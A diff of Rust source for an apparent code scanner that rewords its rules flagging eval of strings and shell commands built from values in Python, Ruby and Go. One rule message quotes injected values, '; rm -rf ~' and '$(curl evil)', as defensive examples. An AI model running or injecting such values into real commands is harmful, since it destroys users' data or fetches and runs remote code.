@@ -1,4 +1,4 @@
-//! Programs and code that are started from text.
+//! Shell commands and evaluated code.
 
 use crate::signals::call::Fragment;
 use crate::signals::calls::taint::tainted;
@@ -13,27 +13,27 @@ const EVAL: Signal = Signal::security(
     "calls/eval",
     Major,
     0.85,
-    "Text is run as code",
-    "Whoever has a say in this text runs what they like with the program's rights. Parse it, or choose from a table \
-     of known functions.",
+    "String is evaluated as code",
+    "Anyone who controls part of the string can run code with the program's privileges. Parse it, or look it \
+     up in a table of known functions.",
 );
 
 const SHELL: Signal = Signal::security(
     "calls/shell",
     Major,
     0.85,
-    "A shell command is put together from values",
-    "A value like `; rm -rf ~` or `$(curl evil)` is executed by the shell. Start the program without a shell and give \
-     its arguments as a list.",
+    "Shell command is built from values",
+    "A value like `; rm -rf ~` or `$(curl evil)` is executed by the shell. Run the program without a shell and \
+     pass its arguments as a list.",
 );
 
 const SHELL_VALUE: Signal = Signal::security(
     "calls/shell-value",
     Minor,
     0.6,
-    "A shell runs a command that is not fixed",
-    "If any part of the command comes from outside, the shell will execute what was put into it. Start the program \
-     without a shell and give its arguments as a list.",
+    "Shell command is not constant",
+    "If any part of it comes from outside, the shell executes it. Run the program without a shell and pass its \
+     arguments as a list.",
 );
 
 pub const RULES: &[Rule] = &[
@@ -152,7 +152,8 @@ fn ruby_evaluates(row: &Row) -> bool {
         || row.calls(".instance_eval .class_eval").iter().any(given)
 }
 
-/// Whether a shell gets a text that values are put into (true), or one that is not fixed (false).
+/// Whether a shell gets a string with inserted values (true), or another string that is not
+/// constant (false).
 fn python(row: &Row) -> Option<bool> {
     let shell = row.calls("subprocess.run subprocess.call subprocess.check_output subprocess.check_call subprocess.Popen Popen check_output asyncio.create_subprocess_shell");
     let shell = shell
@@ -169,7 +170,7 @@ fn python(row: &Row) -> Option<bool> {
     judged(row, &command)
 }
 
-/// For `shell=True` on a line of its own: the command, above it.
+/// For `shell=True` on a separate line: the command above it.
 fn keyword_line(row: &Row) -> Option<Fragment> {
     let opens = |above: &Row| above.has("subprocess. $ (") && text::unclosed(above.code()) > 0;
     let alone = row.has("shell = True") && !row.has("$ ( .. shell");
@@ -200,7 +201,7 @@ fn judged(row: &Row, command: &Fragment) -> Option<bool> {
     }
 }
 
-/// What the name was set to, above.
+/// The value that the name was set to in the lines above.
 fn given(row: &Row, name: Name) -> Option<Fragment> {
     let set = row.above().take(30).find(|above| {
         above.code().trim_start().starts_with(name.as_str())
@@ -224,7 +225,7 @@ fn script(row: &Row) -> bool {
     commands.any(|command| judged(row, &command) == Some(true))
 }
 
-/// `exec.Command("sh", "-c", command)` with a command that is not fixed.
+/// `exec.Command("sh", "-c", command)` with a command that is not constant.
 fn go(row: &Row) -> bool {
     row.calls("exec.Command exec.CommandContext")
         .iter()
